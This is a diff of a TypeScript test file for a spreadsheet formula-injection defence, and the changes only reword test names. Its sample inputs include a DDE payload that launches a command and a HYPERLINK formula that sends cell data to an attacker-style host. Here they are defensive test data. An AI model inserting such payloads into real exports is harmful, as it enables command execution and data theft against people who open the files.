@@ -49,13 +49,13 @@ describe('a text that a spreadsheet would evaluate as a formula', () => {
     '“=1',
     '=cmd|’ /C calc’!A0',
     '=HYPERLINK("https://evil.example?"&A1)',
-  ])('%j gets an apostrophe in front, and an import removes the apostrophe', (text) => {
+  ])('the text %j gets an apostrophe in front, and an import removes the apostrophe', (text) => {
     expect(neutraliseFormula(text)).toBe(`'${text}`);
     expect(restoreFormula(neutraliseFormula(text))).toBe(text);
   });
 
   test.each(['', 'Ada', "O'Neil", "'t Hooft", 'a=b', '3-4', 'ada@office.example', '004912', "''"])(
-    '%j is not a formula and is not changed',
+    'the text %j is not a formula and is not changed',
     (text) => {
       expect(neutraliseFormula(text)).toBe(text);
       expect(restoreFormula(text)).toBe(text);
@@ -92,7 +92,7 @@ describe('a text that a spreadsheet would evaluate as a formula', () => {
   });
 });
 
-test('all rows of a list are read in batches, each beginning after the last row of the previous batch', async () => {
+test('all rows of a list are read in batches; each batch begins after the last row of the previous batch', async () => {
   const lastRows: (number | null)[] = [];
   const readNextRows = async (lastRow: number | null, limit: number): Promise<number[]> => {
     lastRows.push(lastRow);
